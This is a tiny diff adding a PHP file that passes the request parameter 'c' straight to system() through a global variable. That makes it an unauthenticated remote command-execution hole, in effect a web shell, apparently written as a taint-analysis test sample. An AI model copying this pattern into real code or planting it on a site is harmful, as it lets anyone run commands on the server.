@@ -1,0 +1,4 @@
+<?php
+function f() { global $c; $c = $_GET["c"]; }
+f();
+system($c);
